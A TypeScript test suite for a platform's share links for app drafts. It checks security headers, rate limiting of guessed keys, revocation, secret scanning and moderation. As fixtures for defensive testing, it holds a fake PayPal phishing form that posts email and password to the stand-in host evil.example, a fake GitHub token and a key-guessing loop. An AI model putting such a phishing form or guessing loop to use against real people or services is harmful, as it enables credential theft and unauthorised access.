/** Share links: a draft for everybody who has the link, until it ends, and for nobody else. */
import { randomBytes } from 'node:crypto'
import { beforeAll, beforeEach, expect, test } from 'vitest'
import {
  commitFiles,
  draftApp,
  publishedApp,
  type TestFile,
} from '../../../../server/testing/apps.ts'
import { type Person, signedUp, signIn } from '../../../../server/testing/people.ts'
import { onEachDatabase } from '../../../../server/testing/test-server.ts'
import { changeApp, deleteApp, readApp, readCodeFiles } from '../../../apps/contract.ts'
import { listApps } from '../../../apps/listing-contract.ts'
import { restoreApp, takeDownApp } from '../../../moderation/contract.ts'
import { publishApp } from '../../contract.ts'
import {
  forkShared,
  listShareLinks,
  makeShareLink,
  openShared,
  readSharedFiles,
  revokeShareLink,
} from '../../share-contract.ts'

const dayMs = 24 * 3_600_000
const mib = 2 ** 20
const page = { 'index.html': '<!doctype html><title>Tide</title><h1>Tide table</h1>' }

onEachDatabase(
  'share links',
  (server) => {
    let ada: Person
    let bob: Person
    beforeAll(async () => {
      ada = await signedUp(server(), 'ada')
      bob = await signedUp(server(), 'bob')
    })
    beforeEach(async () => {
      await signIn(ada)
      await signIn(bob)
    })
    let made = 0
    const draft = (files: Readonly<Record<string, TestFile>> = page) => {
      made += 1
      const name = `tide-${made}`
      return draftApp(ada, name, files).then((id) => ({ id, name }))
    }
    const share = async (id: string, order: { days?: number; mayFork?: boolean } = {}) => {
      const answer = await ada.calls(makeShareLink, { id, ...order })
      expect(answer).toMatchObject({ status: 201 })
      return answer.body
    }
    const open = (url: string, path = '', headers: Record<string, string> = {}) =>
      server().request(new URL(path, url).href, { headers })
    const statusOf = async (url: string) => (await open(url)).status
    const keyOf = (url: string) =>
      new URL(url).hostname.slice('share-'.length, 'share-'.length + 32)

    test('everybody with the link sees the newest commit of a draft at once, marked, and nobody finds it elsewhere [OPN-16]', async () => {
      const { id, name } = await draft({ ...page, 'a/data.txt': 'ebb' })
      const { url, link } = await share(id)
      expect(url).toMatch(/^http:\/\/share-[0-9a-f]{32}\.preview\.localhost:3000\/$/)
      const answer = await open(url)
      expect(answer.status).toBe(200)
      const html = await answer.text()
      expect(html).toContain('<h1>Tide table</h1>')
      expect(html).toContain('mark(sharedPage)')
      expect(html).toContain('"forkAddress":null')
      expect(await (await open(url, 'a/data.txt')).text()).toBe('ebb')
      expect((await open(url, 'none.html')).status).toBe(404)
      expect(link).toMatchObject({ mayFork: false })
      // The address is told once, and stored as a hash alone.
      const listed = await ada.calls(listShareLinks, { id })
      expect(listed.body.links).toEqual([link])
      const rows = await server().server.db.selectFrom('shareLinks').selectAll().execute()
      expect(JSON.stringify([listed.body, rows])).not.toContain(keyOf(url))
      expect(server().logged()).not.toContain(keyOf(url))
      // Not in listings, and the app itself stays as hidden as it was.
      const found = await bob.calls(listApps, { q: name })
      expect(found.body.apps).toEqual([])
      expect((await bob.calls(readApp, { id })).status).toBe(404)
      expect((await bob.calls(readCodeFiles, { id })).status).toBe(404)
    })

    test('a newer commit is shown to who opens the page after it', async () => {
      const { id, name } = await draft()
      const { url } = await share(id)
      const commitSha = await commitFiles(ada, name, { 'index.html': '<h1>Spring tide</h1>' })
      server().pass(15_000)
      // What a page asks for looks for nothing.
      await open(url, 'a.js', { 'Sec-Fetch-Dest': 'script' })
      expect((await ada.calls(listShareLinks, { id })).body.shown?.commitSha).not.toBe(commitSha)
      expect(await (await open(url, '', { 'Sec-Fetch-Dest': 'document' })).text()).toContain(
        'Spring tide',
      )
      expect((await ada.calls(listShareLinks, { id })).body.shown).toEqual({
        commitSha,
        problem: null,
      })
    })

    test('threat T148: a link leaves by no referrer, cache or search engine, nobody frames it, and no worker outlives it', async () => {
      const { id } = await draft({
        ...page,
        _headers:
          '/*\n  Cache-Control: public, max-age=9999\n  Access-Control-Allow-Origin: *\n  X-Robots-Tag: all',
        'sw.js': 'self',
      })
      const { url } = await share(id)
      const told = [
        await open(url),
        await open(url, 'sw.js'),
        await open(url, 'none'),
        await open(url, '_app/v1.js'),
      ]
      for (const { headers } of told) {
        expect(Object.fromEntries(headers)).toMatchObject({
          'cache-control': 'no-store',
          'referrer-policy': 'no-referrer',
          'x-robots-tag': 'noindex',
          'cross-origin-resource-policy': 'same-origin',
          'content-security-policy': expect.stringMatching(/^sandbox .*frame-ancestors 'none'$/),
        })
        expect(headers.has('access-control-allow-origin')).toBe(false)
        expect(headers.has('set-cookie')).toBe(false)
        expect(headers.has('etag')).toBe(false)
      }
      expect((await open(url, 'sw.js', { 'Service-Worker': 'script' })).status).toBe(403)
      // The preview's own worker and shell are not here.
      expect((await open(url, '__sw.js')).status).toBe(404)
      expect((await open(url, '__shell')).status).toBe(404)
      expect((await server().request(url, { method: 'POST' })).status).toBe(405)
    })

    test('threat T148: keys that are guessed open nothing and are counted together, and one link opens no other draft', async () => {
      const { id } = await draft()
      const { url } = await share(id)
      const key = keyOf(url)
      const other = url.replace(key, `${key.slice(0, 31)}${key.endsWith('0') ? '1' : '0'}`)
      expect(await statusOf(other)).toBe(404)
      // Upper case is the same host name; anything else is no label of ours.
      expect(await statusOf(url.replace(`share-${key}`, `share-${key}0`))).toBe(421)
      expect(await statusOf(url.replace(`share-${key}`, key))).toBe(404)
      const statuses = new Set<number>()
      for (let n = 0; n < 1_300 && !statuses.has(429); n += 1) {
        const guess = url.replace(key, n.toString(16).padStart(32, '0'))
        statuses.add((await server().request(guess, {}, '203.0.113.9')).status)
      }
      expect([...statuses]).toEqual([404, 429])
      expect((await server().request(url, {}, '203.0.113.10')).status).toBe(200)
    })

    test('a link ends by the word of its owner alone, by its time, with the app, and by an admin’s act', async () => {
      const { id } = await draft()
      const [one, two] = [await share(id, { days: 1 }), await share(id, { days: 2 })]
      const revoke = { id, linkId: one.link.id }
      expect((await bob.calls(revokeShareLink, revoke)).status).toBe(404)
      expect(await statusOf(one.url)).toBe(200)
      expect((await ada.calls(revokeShareLink, revoke)).status).toBe(200)
      expect((await ada.calls(revokeShareLink, revoke)).status).toBe(404)
      expect([await statusOf(one.url), await statusOf(two.url)]).toEqual([404, 200])
      server().pass(2 * dayMs)
      expect(await statusOf(two.url)).toBe(404)
      await signIn(ada)
      expect((await ada.calls(listShareLinks, { id })).body).toEqual({ links: [], shown: null })
      await server().server.jobs.sweep()
      const left = await server().server.db.selectFrom('sharedDrafts').selectAll().execute()
      expect(left.filter(({ appId }) => appId === id)).toEqual([])
      const three = await share(id)
      expect((await ada.calls(deleteApp, { id })).status).toBe(200)
      expect(await statusOf(three.url)).toBe(404)
    })

    test('threat T149: what a publish would hold is not shown: a secret key, a page that phishes, an app that an admin took out of view', async () => {
      const key = `ghp_${'aB3d'.repeat(9)}`
      const { id, name } = await draft({ ...page, 'app.js': `const key = '${key}'` })
      const refused = await ada.calls(makeShareLink, { id })
      expect(refused).toMatchObject({ status: 409, body: { code: 'secretsFound' } })
      const accepted = await ada.calls(makeShareLink, { id, acceptSecrets: true })
      expect(accepted.status).toBe(201)
      const { url } = accepted.body
      // A later commit with a new key stays hidden, and so does one that phishes; the owner learns why.
      await commitFiles(ada, name, { ...page, 'app.js': `const key = 'ghp_${'Zx9k'.repeat(9)}'` })
      server().pass(15_000)
      expect(await (await open(url, 'app.js')).text()).toContain(key)
      expect((await ada.calls(listShareLinks, { id })).body.shown?.problem).toBe('secrets')
      await commitFiles(ada, name, {
        'index.html':
          '<title>PayPal</title><h1>PayPal</h1><form action="https://evil.example/take"><input type="email"><input type="password"></form>',
      })
      server().pass(15_000)
      expect(await (await open(url)).text()).toContain('Tide table')
      expect((await ada.calls(listShareLinks, { id })).body.shown?.problem).toBe('held')
      expect(await ada.calls(makeShareLink, { id })).toMatchObject({
        status: 409,
        body: { code: 'shareHeld' },
      })
      await server()
        .server.db.insertInto('sites')
        .values({ appId: id, versionId: null, verifiedVersionId: null, updatedAt: 1, takenDown: 1 })
        .execute()
      expect(await statusOf(url)).toBe(404)
    })

    test('threat T149: a link shows nothing of who is suspended, and what an admin took down is not shown by it again', async () => {
      const { id, url: live } = await publishedApp(ada, 'ebb', page)
      const { url } = await share(id)
      const { db } = server().server
      const suspend = (suspendedAt: number | null) =>
        db.updateTable('users').set({ suspendedAt }).where('id', '=', ada.userId).execute()
      await suspend(server().now())
      expect(await statusOf(url)).toBe(404)
      await suspend(null)
      expect(await statusOf(url)).toBe(200)
      const rosa = await signedUp(server(), 'rosa')
      expect((await rosa.calls(takeDownApp, { id, reason: 'A court order' })).status).toBe(200)
      expect([await statusOf(url), await statusOf(live)]).toEqual([404, 451])
      expect((await rosa.calls(restoreApp, { id })).status).toBe(200)
      expect(await statusOf(url)).toBe(404)
    })

    test('threat T149: a link reaches no data: calls for it are answered by nothing, and the live app is what it was', async () => {
      const { id, url: live } = await publishedApp(ada, 'moon', { 'index.html': '<h1>Full</h1>' })
      await commitFiles(ada, 'moon', { 'index.html': '<h1>Waning</h1>' })
      const { url } = await share(id)
      expect(await (await open(url)).text()).toContain('Waning')
      expect(await (await server().request(live)).text()).toContain('Full')
      for (const path of ['_app/me', '_app/entries/notes', '_app/token', '_app/live'])
        expect((await open(url, path)).status).toBe(204)
      const written = await server().request(new URL('_app/entries/notes', url).href, {
        method: 'POST',
        body: '{}',
        headers: { 'Content-Type': 'application/json', 'X-Draft': 'x' },
      })
      expect(written.status).toBe(405)
      // Unpublished it goes on to be shown: the link is its owner's.
      await ada.calls(changeApp, { id, status: 'draft' })
      expect(await statusOf(url)).toBe(200)
      expect((await ada.calls(publishApp, { id })).status).toBe(200)
      expect(await statusOf(url)).toBe(200)
    })

    test('a fork is made by who is signed in, of what the link shows, where its owner lets them', async () => {
      const { id } = await draft({ ...page, 'p.bin': Uint8Array.of(0, 255, 1) })
      const closed = await share(id)
      const openLink = await share(id, { mayFork: true })
      expect(await (await open(openLink.url)).text()).toContain(
        `"forkAddress":"http://localhost:3000/shared#${keyOf(openLink.url)}"`,
      )
      const [shut, key] = [keyOf(closed.url), keyOf(openLink.url)]
      expect((await bob.calls(openShared, { key: shut })).body).toMatchObject({ mayFork: false })
      for (const refused of [
        await bob.calls(readSharedFiles, { key: shut }),
        await bob.calls(forkShared, { key: shut, name: 'mine' }),
      ])
        expect(refused).toMatchObject({ status: 403, body: { code: 'shareForkRefused' } })
      expect((await bob.calls(openShared, { key })).body).toMatchObject({
        appId: id,
        author: 'ada',
        mayFork: true,
        isOwn: false,
      })
      const { codeFiles } = (await bob.calls(readSharedFiles, { key })).body
      expect(codeFiles.map(({ name, encoding }) => [name, encoding])).toEqual([
        ['index.html', 'utf-8'],
        ['p.bin', 'base64'],
      ])
      const forked = await bob.calls(forkShared, { key, name: 'bob-tide' })
      expect(forked).toMatchObject({
        status: 201,
        body: { forkedApp: { status: 'draft', forkedFrom: id, author: { username: 'bob' } } },
      })
      expect(await ada.calls(forkShared, { key, name: 'own-tide' })).toMatchObject({
        body: { code: 'forkOwnApp' },
      })
      await ada.calls(revokeShareLink, { id, linkId: openLink.link.id })
      expect(await bob.calls(forkShared, { key, name: 'bob-tide-2' })).toMatchObject({
        status: 404,
        body: { code: 'shareClosed' },
      })
    })

    test('an app has twenty links, and one without a page to open has none', async () => {
      const { id } = await draft()
      for (let n = 0; n < 20; n += 1) await share(id)
      expect(await ada.calls(makeShareLink, { id })).toMatchObject({
        status: 409,
        body: { code: 'shareLinksFull' },
      })
      const empty = await draft({ 'readme.txt': 'x' })
      expect(await ada.calls(makeShareLink, { id: empty.id })).toMatchObject({
        body: { code: 'noIndexFile' },
      })
      for (const days of [0, 31, 1.5])
        expect((await ada.calls(makeShareLink, { id, days })).status).toBe(400)
    })

    test('what links show is not swept, and counts for the room that its owner has', async () => {
      const { id, name } = await draft({ ...page, 'big.bin': randomBytes(3 * mib) })
      const { url } = await share(id)
      server().pass(3_600_000)
      await server().server.jobs.sweep()
      server().pass(dayMs)
      await server().server.jobs.sweep()
      expect((await open(url, 'big.bin')).status).toBe(200)
      await signIn(ada)
      await commitFiles(ada, name, {
        ...page,
        'big.bin': randomBytes(4 * mib),
        'more.bin': randomBytes(4 * mib),
      })
      expect(await ada.calls(makeShareLink, { id })).toMatchObject({
        status: 413,
        body: { code: 'publishedFull' },
      })
      expect((await open(url, 'big.bin')).headers.get('content-length')).toBe(`${3 * mib}`)
    })
  },
  { env: { ADMINS: 'builtin:rosa', PUBLISHED_BYTES_PER_PERSON: `${8 * mib}` } },
)

onEachDatabase(
  'share links of a host where an admin looks first',
  (server) => {
    test('threat T149: nothing is shown by a link before an admin has seen it', async () => {
      const zoe = await signedUp(server(), 'zoe')
      const id = await draftApp(zoe, 'early', page)
      expect(await zoe.calls(makeShareLink, { id })).toMatchObject({
        status: 403,
        body: { code: 'shareNeedsReview' },
      })
    })
  },
  { env: { REVIEW_BEFORE_PUBLISH: 'true' } },
)
